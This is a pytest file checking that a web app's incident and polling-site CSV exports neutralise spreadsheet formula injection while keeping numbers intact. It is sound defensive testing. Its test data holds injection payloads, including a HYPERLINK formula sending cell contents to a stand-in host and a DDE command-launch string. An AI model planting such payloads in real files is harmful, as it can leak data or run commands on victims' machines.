"""CSV exports neutralise spreadsheet formulas (OWASP CSV injection) and keep numbers numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy import text

from pks_geo.web import create_app
from tests.security_setup import add_election, add_incident, add_tps, boundary_engine, inside, token_for

DESA = "74.05.03.2001"
FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1"]
NUMBERS = ["-4.05", "+62", "12", "-0.5"]


@pytest.fixture(scope="module")
def world(database_factory, ks_boundary_paths):  # type: ignore[no-untyped-def]
    engine = boundary_engine(database_factory, ks_boundary_paths)
    with engine.begin() as conn:
        add_election(conn, "pilkada-x", date(2024, 11, 27))
        where = inside(conn, DESA)
        for n, value in enumerate(FORMULAS + NUMBERS):
            incident = add_incident(conn, f"X{n}", date(2024, 5, 1 + n), "bentrok", where, DESA,
                                    description=value, election="pilkada-x")
            conn.execute(text("UPDATE incident SET actor2 = :v, place_name = :v WHERE id = :id"),
                         {"v": value, "id": incident})
        for no, value in enumerate(FORMULAS + NUMBERS, start=1):
            kode = add_tps(conn, "pilkada-x", DESA, no, where)
            conn.execute(text("UPDATE polling_site SET alamat = :v WHERE kode_tps = :k"),
                         {"v": value, "k": kode})
    app = create_app({"DATABASE_URL": engine.url.render_as_string(hide_password=False), "TESTING": True,
                      "MIN_CELL": 1})
    return app.test_client(), token_for(engine, "analis-csv", "analyst")


def _rows(data: bytes) -> list[dict[str, str]]:
    lines = [line for line in data.decode("utf-8").split("\n") if not line.startswith("#")]
    return list(csv.DictReader(io.StringIO("\n".join(lines), newline="")))


def _expected(value: str) -> str:
    return value if value in NUMBERS else "'" + value


@pytest.mark.parametrize(("path", "fields"), [
    ("/api/v1/export/incidents.csv?election=pilkada-x", ("description", "actor2", "place_name")),
    ("/api/v1/export/tps.csv?election=pilkada-x", ("alamat",)),
])
def test_formulas_are_quoted_and_numbers_stay_numbers(world, path, fields) -> None:  # type: ignore[no-untyped-def]
    client, headers = world
    response = client.get(path, headers=headers)
    assert response.status_code == 200, response.data[:300]
    rows = _rows(response.data)
    assert len(rows) == len(FORMULAS + NUMBERS), [r.get("alamat") for r in rows]
    for field in fields:
        got = sorted(row[field] for row in rows)
        assert got == sorted(_expected(v) for v in FORMULAS + NUMBERS), field
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in got
                       if cell not in NUMBERS)
    for row in rows:  # coordinates (negative latitudes) are plain numbers
        assert -5 < float(row["lat"]) < -3 and 121 < float(row["lon"]) < 124
        assert not row["lat"].startswith("'")
